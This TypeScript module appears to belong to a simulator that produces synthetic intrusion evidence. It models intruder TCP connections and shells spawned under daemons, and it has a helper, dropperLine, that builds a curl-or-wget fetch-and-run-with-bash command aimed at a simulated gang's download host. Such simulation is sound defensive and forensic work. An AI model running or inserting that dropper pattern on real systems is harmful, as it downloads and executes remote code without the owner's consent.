import type { Process } from '../evidence/audit-calls.ts'
import { ScriptHands } from '../gangs/script-hands.ts'
import type { Machine, User } from '../machine.ts'
import { TcpConnection } from '../network/tcp.ts'
import type { Random } from '../random.ts'
import type { Act } from '../schedule.ts'
import type { Attempt } from './enter.ts'

const INTERNET_DISORDER = 0.006
const RTT_MS = { from: 40, to: 220 }

/** A connection of an intruder to a port of the host. */
export function connectionTo(
  { host, random, srcIp }: Attempt,
  port: number,
): { tcp: TcpConnection; srcPort: number } {
  const srcPort = random.integer(32_768, 60_999)
  const tcp = new TcpConnection(
    host.machine.tap,
    {
      local: { ip: host.machine.facts.address, port },
      remote: { ip: srcIp, port: srcPort },
      opener: 'remote',
      rttMs: random.between(RTT_MS.from, RTT_MS.to),
      disorder: INTERNET_DISORDER,
    },
    random,
  )
  return { tcp, srcPort }
}

/** One question and its answer, in text. */
export function* ask(
  machine: Machine,
  tcp: TcpConnection,
  question: string,
  answer: string,
  random: Random,
): Act {
  yield tcp.send('remote', new TextEncoder().encode(question), machine.nowMs)
  yield tcp.send('local', new TextEncoder().encode(answer), machine.nowMs + random.between(0.4, 25))
}

/** A daemon as a parent of what intruders make it run. */
export interface Daemon {
  readonly pid: number
  readonly comm: string
  readonly exe: string
  readonly unit: string
  readonly cwd: string
}

/** `sh -c SCRIPT` below a daemon: nobody logged in. */
export function scriptBelow(
  machine: Machine,
  user: User,
  daemon: Daemon,
  script: string,
  random: Random,
): ScriptHands {
  const shell: Process = {
    pid: machine.nextPid(),
    ppid: daemon.pid,
    comm: 'sh',
    exe: '/usr/bin/dash',
    args: ['/bin/sh', '-c', script],
    cwd: daemon.cwd,
    uid: user.uid,
    loginUid: null,
    session: null,
    tty: null,
    unit: daemon.unit,
  }
  machine.calls.executed(shell)
  return new ScriptHands(machine, user, shell, random)
}

/** What such a script says first: fetch and run. */
export function dropperLine({ gang }: Pick<Attempt, 'gang'>): string {
  const { ip, name, paths } = gang.traits.download
  const url = `http://${name ?? ip}${paths[0] ?? '/'}`
  return `(curl -fsSL ${url}||wget -q -O- ${url})|bash`
}
